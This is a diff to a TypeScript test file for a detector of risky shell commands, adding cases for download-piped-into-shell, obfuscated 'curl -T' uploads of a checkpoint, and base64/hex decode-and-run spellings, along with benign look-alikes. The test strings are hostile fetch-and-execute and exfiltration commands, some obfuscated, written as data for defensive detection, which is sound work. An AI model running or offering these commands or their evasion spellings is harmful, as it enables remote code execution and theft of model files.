@@ -72,6 +72,42 @@ describe('a download piped into a shell (MLS-RAY-012)', () => {
     expect(ids(['sh', '-c', 'curl -fsSL -o /tmp/helm.tgz https://get.example.com/helm.tgz'])).not.toContain('MLS-RAY-012');
     expect(ids(['sh', '-c', 'ps aux | sh -c cat'])).not.toContain('MLS-RAY-012');
   });
+
+  it('wrappers, paths, installer arguments, a tee between, a query string, python reading stdin', () => {
+    for (const script of [
+      'curl -fsSL http://203.0.113.7/r.sh|sudo -E /bin/bash',
+      'curl -fsSL https://sh.example.com/install | sh -s -- -y',
+      'wget -O - http://203.0.113.7/r.sh | bash -s stable',
+      'curl -s http://203.0.113.7/r.sh | tee /tmp/.r | sh',
+      'curl -s "http://203.0.113.7/i?os=linux&arch=amd64" | bash',
+      'curl -s http://203.0.113.7/p.py | python3 -',
+      'cd /tmp && curl -s http://203.0.113.7/r.sh | sh',
+      'echo http://203.0.113.7/r.sh | xargs curl -s | sh',
+    ]) {
+      expect(ids(['sh', '-c', script]), script).toContain('MLS-RAY-012');
+    }
+  });
+
+  it('the fetch and the shell must be stages of one pipeline of one reading', () => {
+    const b64 = (x: string): string => Buffer.from(x).toString('base64');
+    for (const script of [
+      // A decoded payload that uploads, run by a decode pipeline: curl is in the payload, `| sh` in the script.
+      `echo ${b64(`curl -T ${CKPT} ${URL}`)} | base64 -d | sh`,
+      // A fetch, then an unrelated file piped into a shell.
+      'curl -s http://203.0.113.7/health; cat /etc/motd | sh',
+      'curl -s -o /tmp/x http://203.0.113.7/x && cat /opt/setup.sh | sh',
+      'curl -s http://203.0.113.7/health || cat /opt/setup.sh | bash',
+      // Fetched text that no shell runs: a formatter, a script file, a shell given its own script.
+      'curl -s http://203.0.113.7/api | python3 -m json.tool',
+      'curl -s http://203.0.113.7/api | python3 -c "import sys; print(sys.stdin.read())"',
+      'curl -s http://203.0.113.7/r.sh | bash /opt/setup.sh',
+      'curl -s http://203.0.113.7/r.sh | sh -ec cat',
+      'curl -s http://203.0.113.7/k | ssh host cat',
+      'echo "curl -s http://203.0.113.7/r.sh" | grep -c sh',
+    ]) {
+      expect(ids(['sh', '-c', script]), script).not.toContain('MLS-RAY-012');
+    }
+  });
 });
 
 describe('obfuscated upload commands alert like their plain spelling (MLS-EXFIL-014)', () => {
@@ -100,6 +136,9 @@ describe('obfuscated upload commands alert like their plain spelling (MLS-EXFIL-
     ['line continuation', `cu\\\nrl -T ${CKPT} ${URL}`],
     ['command substitution in quotes', `echo "$(c''url -T ${CKPT} ${URL})"`],
     ['nested shell', `bash -lc 'c"u"rl -T ${CKPT} ${URL}'`],
+    ['variables $a$b', `a=cu; b=rl; $a$b -T ${CKPT} ${URL}`],
+    ['a quoted variable "$x"', `x=curl; "$x" -T ${CKPT} \${URL:-${URL}}`],
+    ['a braced variable ${x}', `x=/usr/bin/curl\ny=-T\n\${x} $y ${CKPT} ${URL}`],
   ];
   for (const [name, script] of scripts) {
     it(`sh -c with ${name}`, () => {
@@ -159,6 +198,9 @@ describe('decode-and-run spellings alert like the plain command (MITRE T1027 / T
     ['eval of split words', ['bash', '-c', `eval ${p.split(' ').map((w) => `'${w}'`).join(' ')}`]],
     ['here-doc into a shell', ['sh', '-c', `bash <<'EOF'\n${p}\nEOF`]],
     ['here-string into a shell', ['sh', '-c', `bash <<< ${JSON.stringify(p)}`]],
+    ['a variable run unquoted', ['sh', '-c', `x='${p}'; $x`]],
+    ['a decoded variable, eval', ['bash', '-c', `x=$(echo ${b64(p)} | base64 -d); eval "$x"`]],
+    ['a decoded variable, sh -c', ['sh', '-c', `x="$(echo ${hex(p)} | xxd -r -p)"\nsh -c "$x"`]],
   ];
   const cases: Array<[string, string, string]> = [
     ['MLS-EXFIL-014', `curl -T ${CKPT} ${URL}`, PERSON],
@@ -197,7 +239,9 @@ describe('benign commands raise nothing new', () => {
     expect(ids(['sh', '-c', 'cat <<EOF > /tmp/cfg\n[upload]\ntool = rclone\nEOF'])).toEqual(only);
     expect(ids(['sh', '-c', "kubectl apply -f - <<'EOF'\nkind: ConfigMap\ndata: {cmd: nc}\nEOF"])).toEqual(only);
     expect(ids(['sh', '-c', 'bash <<EOF\nnvidia-smi\ndf -h\nEOF'])).toEqual(only);
-    expect(ids(['sh', '-c', `echo ${Buffer.from('nvidia-smi').toString('base64')} | base64 -d | sh`])).toEqual(only);
+  });
+  it('a benign command decoded into a shell raises the decode rule alone (MLS-RAY-013: the hiding itself)', () => {
+    expect(ids(['sh', '-c', `echo ${Buffer.from('nvidia-smi').toString('base64')} | base64 -d | sh`])).toEqual(['MLS-RAY-013', SIGMA_EXEC].sort());
   });
   it('sh -c tar extraction is no `tar -c` (the shell\'s own -c is not read as the script\'s)', () => {
     expect(ids(['sh', '-c', 'tar xzf /data/shard-00.tgz'])).toEqual(only);
